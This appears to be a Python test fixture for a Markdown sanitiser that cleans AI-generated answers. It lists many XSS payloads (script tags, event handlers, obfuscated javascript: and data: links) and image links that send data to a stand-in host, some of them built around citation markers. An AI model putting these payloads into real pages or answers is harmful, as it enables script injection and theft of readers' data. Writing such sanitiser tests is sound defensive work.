# ruff: noqa: E501 - one attack a line
"""Ways to make a reader's browser act, by class; none may survive the cleaning of an answer, in any Markdown."""

TAGS = (
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script/x>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<<script>alert(1)//<</script>",
    "<script>alert(1)", "<script", "text <script src=//e.example", "<sCrIpT type=module>import('//e')</ScRiPt >",
    "<scr\x00ipt>alert(1)</scr\x00ipt>", "<scr\u200bipt>alert(1)</script>", "<s\u00adcript>alert(1)</script>",
    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=data:text/html,x>",
    "<embed src=//e.example/x.swf>", "<applet code=x>", "<base href=//e.example/>", "<meta http-equiv=refresh content='0;url=//e'>",
    "<link rel=stylesheet href=//e.example/x.css>", "<style>@import '//e.example/x.css';</style>", "<style>*{background:url(//e)}",
    "<form action=//e.example><button>go</button></form>", "<input autofocus onfocus=alert(1)>", "<textarea><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>", "<xss onpointerrawupdate=alert(1)>x</xss>", "<custom-tag onclick=alert(1)>x",
    "<!--><script>alert(1)</script-->", "<!-- x --!><script>alert(1)</script>", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!-- never closed <script>alert(1)", "<!DOCTYPE x [<!ENTITY y 'z'>]>", "<![CDATA[<script>alert(1)</script>]]>", "<?xml-stylesheet href=//e?>",
    "<?php echo 1 ?><script>alert(1)</script>", "</p><script>alert(1)</script><p>", "</textarea><script>alert(1)</script>",
    "a<b onmouseover=alert(1)>c", "if x<y and y>z onclick=1", "\\<script>alert(1)\\</script>", "<script>\n\nalert(1)\n\n</script>",
    "<div\nonclick=alert(1)\n>", "<div\n\nonclick=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml;base64,AAAA#x'/></svg>", "<svg><foreignObject><iframe src=//e></foreignObject></svg>",
)  # fmt: skip
HANDLERS = (
    "<b onclick=alert(1)>x</b>", "<b\tonclick\t=\talert(1)>x</b>", "<b/onclick=alert(1)>x</b>", "<p onmouseover='alert(1)'>x</p>",
    "<a href=# onfocus=alert(1) autofocus>x</a>", "<details open ontoggle=alert(1)>x</details>", "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>", "<video onerror=alert(1)><source></video>", "<select onfocus=alert(1) autofocus>", "<b style='x:expression(alert(1))'>x</b>",
    "<b onclick=alert`1`>x</b>", "<i onclick=\"alert('>')\">x</i>", "<u title='>' onclick=alert(1)>x</u>", "<b onclick\u00a0=alert(1)>x</b>",
    "<p style=\"background:url(//e.example/?q)\">x</p>", "<span id=x style=position:fixed>x</span>", "<b x='`' onclick=alert(1)>`x</b>",
)  # fmt: skip
IMAGES = (
    "![x](https://e.example/?q=secret)", "![](//e.example/x.png)", "![x](<https://e.example/a b.png>)", "![x]( https://e.example 'title')",
    "![x](https://e.example/(a)/b.png)", "[![x](https://e.example/x.png)](https://e.example)", "![a ![b](https://e.example/1.png) c](https://e.example/2.png)",
    "![x][pic]\n\n[pic]: https://e.example/x.png", "![pic]\n\n[pic]: https://e.example/x.png", "![pic][]\n\n[pic]: <https://e.example/x.png>",
    "Look![1]\n\n[1]: https://e.example/x.png", "!\u200b[x](https://e.example/x.png)", "\\![x](https://e.example/x.png) ![y](https://e.example/y.png)",
    "<img src=https://e.example/x.png>", "<img src=x onerror=alert(1)>", "<IMG\nSRC='x'\nONERROR=alert(1)>", "<picture><source srcset=//e.example/x><img></picture>",
    "<image href=//e.example/x>", "<svg><image href=//e.example/x></svg>", "<img src=`javascript:alert(1)`>", "<img srcset='//e.example/x 2x'>",
    "<img \"\"\"><script>alert(1)</script>\">", "<input type=image src=//e.example/x>", "<video poster=//e.example/x></video>", "<table background=//e.example/x><tr><td>y</td></tr></table>",
    "![x](https://e.example/" + "a" * 900 + ")", "![" + "x" * 300 + "](https://e.example/x.png)", "![x](\nhttps://e.example/x.png\n)",
    "![x\ny](https://e.example/x.png)", "![`x`](https://e.example/x.png)", "![*x*](https://e.example/x.png)", "![\\]](https://e.example/x.png)",
    "| a |\n|---|\n| ![x](https://e.example/x.png) |", "> ![x](https://e.example/x.png)", "- ![x](https://e.example/x.png)", "# ![x](https://e.example/x.png)",
    "!【9】[x](https://e.example/x.png)", "!(source 9)[x](https://e.example/x.png)", "![9][x](https://e.example/x.png)",
)  # fmt: skip
LINKS = (
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x]( javascript:alert(1))", "[x](<javascript:alert(1)>)", "[x](< javascript:alert(1)>)",
    "[x](javascript&colon;alert(1))", "[x](javascript&#58;alert(1))", "[x](javascript&#x3a;alert(1))", "[x](&#106;avascript:alert(1))", "[x](&#x6A;avascript:alert(1))",
    "[x](&#0000106avascript:alert(1))", "[x](java&Tab;script:alert(1))", "[x](java&NewLine;script:alert(1))", "[x](java\\script:alert(1))", "[x](javascript\\:alert(1))",
    "[x](&#1;javascript:alert(1))", "[x](\u0001javascript:alert(1))", "[x](java\u200bscript:alert(1))", "[x](java\u00adscript:alert(1))", "[x](javascript%3Aalert(1))",
    "[x](%6aavascript:alert(1))", "[x](vbscript:msgbox(1))", "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](DATA:text/html,<script>alert(1)</script>)", "[x](file:///etc/passwd)",
    "[x](blob:https://e.example/1)", "[x](about:blank)", "[x](ms-msdt:/id)", "[x](view-source:x)", "[x](javascript:alert(1) 'title')", "[x](javascript:alert(1)\n'title')",
    "[x](\njavascript:alert(1))", "> [x](\n> javascript:alert(1))", "[x](javascript:// https://e.example/%0aalert(1))", "[*x*](javascript:alert(1))", "[`x`](javascript:alert(1))",
    "[a [b](javascript:alert(1)) c](javascript:alert(2))", "[x][y]\n\n[y]: javascript:alert(1)", "[x]\n\n[x]: javascript:alert(1)", "[x][]\n\n[x]:\njavascript:alert(1)",
    "[x]\n\n[x]: <javascript:alert(1)> 'title'", "[x][y]\n\n   [y]:   JAVASCRIPT&#58;alert(1)", "[y\nz]\n\n[y\nz]: javascript:alert(1)", "> [y]: javascript:alert(1)\n\n[y]",
    "- [y]: data:text/html,x\n\n[y]", "[`]: javascript:alert(1) '`'\n\n[x][`]", "<javascript:alert(1)>", "<vbscript:x>", "<data:text/html,x>", "<file:///etc/passwd>", "<JAVASCRIPT:alert(1)>",
    "[x](javascript[9]:alert(1))", "[x](java[9]script:alert(1))", "[x](java&[9]#115;cript:alert(1))", "[x](javascript [9]:alert(1))", "【1】(javascript:alert(1))", "(source 1)(javascript:alert(1))",
    "【1】: javascript:alert(1)\n\nsee 【1】", "[1]: https://e.example\n\nThe stock is 150 [1].", "<[9]script>alert(1)</[9]script>", "<(source 9)img src=x onerror=alert(1)>",
    "[x][9](javascript:alert(1))", "<<<<SOURCES 1>>>script>alert(1)<<<<END SOURCES 1>>>/script>", "<scr<<<SOURCES 1>>>ipt>alert(1)</script>",
    "!sk-abcdefghijklmnopqrstuv(https://e.example)\n\n[redacted]: https://e.example", "sk-abcdefghijklmnopqrstuv(javascript:alert(1))", "[x](" + "a" * 600 + ":x)", "[x](" + "&#106;" + "avascript:" + "a" * 600 + ")",
)  # fmt: skip
CODE_TRICKS = (
    "```|x\n|---|---|\n<b onclick=alert(1)>x</b>", "~~~ | x\n---|---\n| <img src=x onerror=alert(1)> |",
    "`\n# x <script>alert(1)</script> `", "a ` b\n\nc ` <script>alert(1)</script> `", "a ` b\nc ` <script>alert(1)</script> ` d", "``x` <script>alert(1)</script> ``` y",
    "| ` | <script>alert(1)</script> ` |\n|---|---|\n| ` | <img src=x onerror=alert(1)> ` |", "a | `b\n---|---\n`c | <script>alert(1)</script>` | d", "> ```\n<script>alert(1)</script>", "> ```\n> x\n\n<script>alert(1)</script>\n\n```",
    "- ```\n<script>alert(1)</script>", "- ```\n  x\n  ```\n<script>alert(1)</script>", "- a\n\n    <script>alert(1)</script>", "1. a\n\n   <script>alert(1)</script>", "10. a\n\n    ```\n  <script>alert(1)</script>",
    "x\n    <script>alert(1)</script>", "``` a ` b\n<script>alert(1)</script>", "```\nx\n```` \n<script>alert(1)</script>", "~~~\nx\n~~~\n<script>alert(1)</script>", "```\nx\n``` y\n```\n<script>alert(1)</script>",
    "\\`<script>alert(1)</script>`", "\\\\`x` <script>alert(1)</script>", "`x\\` <script>alert(1)</script>`", "<b title='`'><script>alert(1)</script>`", "[x](`) <script>alert(1)</script> `", "-\n\n  ```\n<script>alert(1)</script>\n```\n<script>alert(2)</script>\n```",
    "- - - ```\n      <script>alert(1)</script>\n<script>alert(1)</script>", "2. x\n3. ```\n<script>alert(1)</script>", "x\n2. ```\n   <script>alert(1)</script>\n", "* * *\n    x\n<script>alert(1)</script>", ">     x\n<script>alert(1)</script>", "\t- x\n\n\t\t<script>alert(1)</script>",
    "<b>```\n<script>alert(1)</script>", "-\t```\n\t<script>alert(1)</script>\n<script>alert(1)</script>", "[^1]: x\n\n    <script>alert(1)</script>", "    ```\n<script>alert(1)</script>", "x\n```\ny\n<!-- z -->\n```\n<script>alert(1)</script>", "`" * 700 + "\n<script>alert(1)</script>",
)  # fmt: skip
ALL = TAGS + HANDLERS + IMAGES + LINKS + CODE_TRICKS

HARMLESS = (
    "plain a < b and c > d, 3 <= 4, x<5, <3 and <- and ->", "data:30 days, javascript: a language, file: report.pdf", "`<script>alert(1)</script>` stays, and ``a ` <b>`` too",
    "```html\n<script src=x>alert(1)</script>\n![x](https://a.example)\n[x](javascript:alert(1))\n```\nand on", "Run:\n\n    cat <file> | sh\n    echo '<b>'\n\nand on",
    "1. Do:\n   ```sh\n   cat <file>\n   ```\n2. Then `<b>`.", "- a\n  - b\n    ```\n    <i>\n    ```\n- c", "> quoted\n> ```\n> <b>\n> ```\n> more", "[a](https://example.org/x?y=1&z=2) and [b](mailto:ann@example.org 'Ann')",
    "<https://example.org/a> and <ann@example.org>", "[a][d]\n\n[d]: https://example.org/x", "[a](#part) and [b](chapter2.md)", "The stock is 150 [1]. [2]: the other one is 200.", "| a | b |\n|---|---|\n| `x` | 2 |",
    "&lt;b&gt; &amp; co", "Great! [1] Wow!", "~~~\n<b>\n~~~\n", "\t<b> begins with a tab", "a\\<5 and C:\\temp\\file", "f(x) = [1, 2](3)", "**bold** _it_ ~~no~~ # x",
)  # fmt: skip
